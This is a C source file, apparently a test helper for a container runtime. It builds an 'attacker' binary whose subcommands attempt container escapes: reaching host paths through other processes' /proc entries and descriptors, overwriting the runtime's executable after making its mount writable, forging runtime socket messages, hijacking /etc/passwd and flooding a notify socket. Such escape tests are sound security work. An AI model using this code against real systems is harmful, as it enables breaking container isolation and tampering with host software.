/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attacker - what a container does that busybox cannot; built static, copied into its root
 *
 *   uncover    detaches its own root, enters the root of its mount namespace anew, and lists it
 *   lurk PATH  looks at every process that comes, as early as it can be seen, and whether PATH of
 *              the host can be reached through its root, its working directory or a descriptor, or
 *              stands in its environment;
 *              only at those that are called as the environment's NAME says, if it does; how often
 *              it has looked is counted in the file /rounds, for whoever waits for that
 *   flood PATH sends datagrams to a socket, without end
 *   forge KIND takes the socket to the runtime of a process that comes, and says something on it
 *   lend NAME  makes a keyring of that name with a key in it, for anybody to join, and stays
 *   key        says whether that key is in the session's keyring
 *   trap       has a terminal of its own lie where the runtime looks for users, and stays
 *   thaw       makes the mount that a program was executed from writable, of every process that
 *              comes and as early as it can be seen, and writes to the program once it is free
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

#include "runtime/base/attr.h"

static int list(const char *path)
{
    DIR *dir = opendir(path);

    if (dir == NULL)
        return 1;
    /* NOLINTNEXTLINE(concurrency-mt-unsafe): the stream is ours alone */
    for (const struct dirent *e; (e = readdir(dir)) != NULL;)
        (void)puts(e->d_name);
    return closedir(dir) < 0;
}

static int uncover(const char *arg)
{
    int fd = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);

    (void)arg;
    if (fd < 0 || umount2("/", MNT_DETACH) < 0 || setns(fd, CLONE_NEWNS) < 0) {
        perror("uncover");
        return 1;
    }
    return list("/");
}

#define FDS   24 /* descriptors that are looked through */
#define UP    "../../../"
#define AHEAD 4 /* process ids ahead of the newest one */

static bool reaches(int pid, const char *way, const char *path)
{
    char text[PATH_MAX];

    (void)snprintf(text, sizeof text, "/proc/%d/%s/%s", pid, way, path);
    return access(text, F_OK) == 0;
}

static bool is_named(int pid, const char *name)
{
    char text[64] = "";
    FILE *f = NULL;

    (void)snprintf(text, sizeof text, "/proc/%d/comm", pid);
    f = fopen(text, "re");
    text[0] = '\0';
    if (f != NULL) {
        if (fgets(text, sizeof text, f) == NULL)
            text[0] = '\0';
        (void)fclose(f);
    }
    text[strcspn(text, "\n")] = '\0';
    return strcmp(text, name) == 0;
}

#define ENV_MAX 65536

static bool knows(int pid, const char *path)
{
    static char env[ENV_MAX];
    char text[32];
    ssize_t n = 0;
    int fd = -1;

    (void)snprintf(text, sizeof text, "/proc/%d/environ", pid);
    fd = open(text, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return false;
    n = read(fd, env, sizeof env);
    (void)close(fd);
    return n > 0 && memmem(env, (size_t)n, path, strlen(path)) != NULL;
}

/* Of one who can be taken hold of, on v1: the top of the hierarchy of devices, as it is seen from a
 * group right beneath it. */
static bool has_all_devices(int pid)
{
    char text[32], line[512];
    bool found = false;
    FILE *f = NULL;
    int fd = -1;

    (void)snprintf(text, sizeof text, "/proc/%d/environ", pid);
    fd = open(text, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return false;
    (void)close(fd);
    (void)snprintf(text, sizeof text, "/proc/%d/cgroup", pid);
    f = fopen(text, "re");
    while (f != NULL && fgets(line, sizeof line, f) != NULL)
        found |= strstr(line, ":devices:/..\n") != NULL;
    if (f != NULL)
        (void)fclose(f);
    return found;
}

static bool look_at(int pid, const char *path)
{
    const char *name = getenv("NAME"); /* NOLINT(concurrency-mt-unsafe): there is one thread */
    char way[64];

    if (name != NULL && !is_named(pid, name))
        return false;
    if (reaches(pid, "root", path) && printf("through the root of %d\n", pid) > 0)
        return true;
    if (reaches(pid, "cwd", path) && printf("through the directory of %d\n", pid) > 0)
        return true;
    if (has_all_devices(pid) && printf("through the devices of %d\n", pid) > 0)
        return true;
    if (knows(pid, path) && printf("through the environment of %d\n", pid) > 0)
        return true;
    for (int fd = 3; fd < FDS; fd++) {
        /* A descriptor of the host's procfs leads to its process 1, and through that to all. */
        (void)snprintf(way, sizeof way, "fd/%d/1/root", fd);
        if (reaches(pid, way, path) && printf("through descriptor %d of %d\n", fd, pid) > 0)
            return true;
        /* A group's directory leads to the limits of the container. */
        (void)snprintf(way, sizeof way, "/proc/%d/fd/%d/cgroup.max.depth", pid, fd);
        if (access(way, W_OK) == 0 && printf("through group %d of %d\n", fd, pid) > 0)
            return true;
        /* And a directory to all that is above it. */
        (void)snprintf(way, sizeof way, "fd/%d/" UP UP UP UP, fd);
        if (reaches(pid, way, path) && printf("through directory %d of %d\n", fd, pid) > 0)
            return true;
    }
    return false;
}

/* The newest process id that was given in this pid namespace. */
static int newest(void)
{
    static int fd = -1;
    char text[128];
    const char *last = NULL;
    ssize_t n = 0;
    int pid = 0;

    if (fd < 0)
        fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
    n = pread(fd, text, sizeof text - 1, 0);
    text[n > 0 ? n : 0] = '\0';
    last = strrchr(text, ' ');
    while (last != NULL && *++last >= '0' && *last <= '9')
        pid = pid * 10 + (*last - '0');
    return pid;
}

typedef bool look_fn(int pid, const char *arg);

static _Atomic uint64_t *counter(void)
{
    int fd = open("/rounds", O_RDWR | O_CREAT | O_CLOEXEC, 0600);
    void *p = MAP_FAILED;

    if (fd >= 0 && ftruncate(fd, sizeof(uint64_t)) == 0)
        p = mmap(NULL, sizeof(uint64_t), PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (fd >= 0)
        (void)close(fd);
    return p == MAP_FAILED ? NULL : p;
}

/* Looks at those that are about to come and those that have just come, as fast as it can. */
static int watch(look_fn *look, const char *arg)
{
    _Atomic uint64_t *rounds = counter();

    if (rounds == NULL) {
        perror("/rounds");
        return 1;
    }
    (void)puts("ready");
    (void)fflush(stdout);
    while (access("/stop", F_OK) < 0) {
        for (int last = newest(), pid = last + AHEAD; pid > last - AHEAD; pid--)
            if (pid != getpid() && look(pid, arg)) {
                atomic_store(rounds, UINT64_MAX); /* nobody need wait any more */
                return 0;
            }
        atomic_fetch_add(rounds, 1);
    }
    (void)puts("nothing");
    return 0;
}

static int lurk(const char *path)
{
    return watch(look_at, path);
}

static int flood(const char *path)
{
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);

    if (fd < 0 || strlen(path) >= sizeof to.sun_path)
        return 1;
    memcpy(to.sun_path, path, strlen(path) + 1);
    while (sendto(fd, "STATUS=x", 8, 0, (const struct sockaddr *)&to, sizeof to) >= 0 ||
           errno == EAGAIN || errno == EINTR)
        continue;
    return 1;
}

#define KEY        "mr-lent"
#define ALL_RIGHTS 0x3f3f3f3fUL

static int lend(const char *name)
{
    if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, name) < 0 ||
        syscall(SYS_keyctl, KEYCTL_SETPERM, KEY_SPEC_SESSION_KEYRING, ALL_RIGHTS) < 0 ||
        syscall(SYS_add_key, "user", KEY, "x", 1UL, KEY_SPEC_SESSION_KEYRING) < 0) {
        perror("lend");
        return 1;
    }
    (void)puts("ready");
    (void)fflush(stdout);
    return pause() == 0;
}

static int key(const char *ignored)
{
    long id = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", KEY, 0UL);

    (void)ignored;
    return puts(id > 0 ? "found" : "none") < 0;
}

static int trap(const char *ignored)
{
    char name[64];
    int master_fd = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);

    (void)ignored;
    if (master_fd < 0 || unlockpt(master_fd) < 0 || ptsname_r(master_fd, name, sizeof name) != 0 ||
        unlink("/etc/passwd") < 0 || symlink(name, "/etc/passwd") < 0) {
        perror("trap");
        return 1;
    }
    (void)puts("ready");
    (void)fflush(stdout);
    return pause() == 0;
}

/* The container's own root is not. */
static bool is_readonly(int fd)
{
    struct statvfs fs;

    return fstatvfs(fd, &fs) == 0 && (fs.f_flag & ST_RDONLY) != 0;
}

/* A user namespace that anybody may make gives the capability that mount_setattr asks for. */
static bool thaw_one(int exe_fd)
{
    struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};

    return mount_setattr(exe_fd, "", AT_EMPTY_PATH, &writable, sizeof writable) == 0;
}

/* It is busy as long as somebody executes it. */
static int overwrite(int exe_fd)
{
    char path[64];

    (void)puts("thawed");
    (void)fflush(stdout);
    (void)snprintf(path, sizeof path, "/proc/self/fd/%d", exe_fd);
    while (access("/stop", F_OK) < 0) {
        int fd = open(path, O_WRONLY | O_CLOEXEC);

        if (fd >= 0 && write(fd, "overwritten", 11) == 11)
            return puts("wrote") < 0;
        (void)usleep(1000);
    }
    return 1;
}

static int thawed_fd = -1;

static bool thaw_program(int pid, const char *ignored)
{
    char text[32];
    int fd = -1;

    (void)ignored;
    (void)snprintf(text, sizeof text, "/proc/%d/exe", pid);
    fd = open(text, O_PATH | O_CLOEXEC);
    if (fd >= 0 && is_readonly(fd) && thaw_one(fd))
        thawed_fd = fd;
    else if (fd >= 0)
        (void)close(fd);
    return thawed_fd >= 0;
}

static int thaw(const char *ignored)
{
    int r = watch(thaw_program, ignored);

    return thawed_fd >= 0 ? overwrite(thawed_fd) : r;
}

/* Whatever socket of this kind the process has; one message, as the process itself would send it.
 */
static bool forge_one(int pid_fd, int number, char kind)
{
    const char message[8] = {kind};
    int fd = (int)syscall(SYS_pidfd_getfd, pid_fd, number, 0), type = 0;
    socklen_t n = sizeof type;
    bool sent = fd >= 0 && getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &n) == 0 &&
                type == SOCK_SEQPACKET && send(fd, message, sizeof message, MSG_NOSIGNAL) > 0;

    if (fd >= 0)
        (void)close(fd);
    return sent;
}

static bool forge_for(int pid, const char *kind)
{
    static bool forged;
    int pid_fd = -1;

    if (forged)
        return false;
    pid_fd = (int)syscall(SYS_pidfd_open, pid, 0);
    for (int fd = FDS; pid_fd >= 0 && !forged && fd >= 3; fd--) /* its own end is the second */
        forged = forge_one(pid_fd, fd, kind[0]);
    if (pid_fd >= 0)
        (void)close(pid_fd);
    if (forged)
        (void)puts("forged");
    (void)fflush(stdout);
    return false;
}

static int forge(const char *kind)
{
    return watch(forge_for, kind);
}

static const struct {
    const char *name;
    int (*run)(const char *arg);
} attacks[] = {
    {"uncover", uncover}, {"lurk", lurk}, {"flood", flood}, {"lend", lend},
    {"key", key},         {"thaw", thaw}, {"trap", trap},   {"forge", forge},
};

int main(int argc, char **argv)
{
    for (size_t i = 0; argc > 1 && i < ARRAY_N(attacks); i++)
        if (strcmp(argv[1], attacks[i].name) == 0)
            return attacks[i].run(argc > 2 ? argv[2] : "");
    return 2;
}
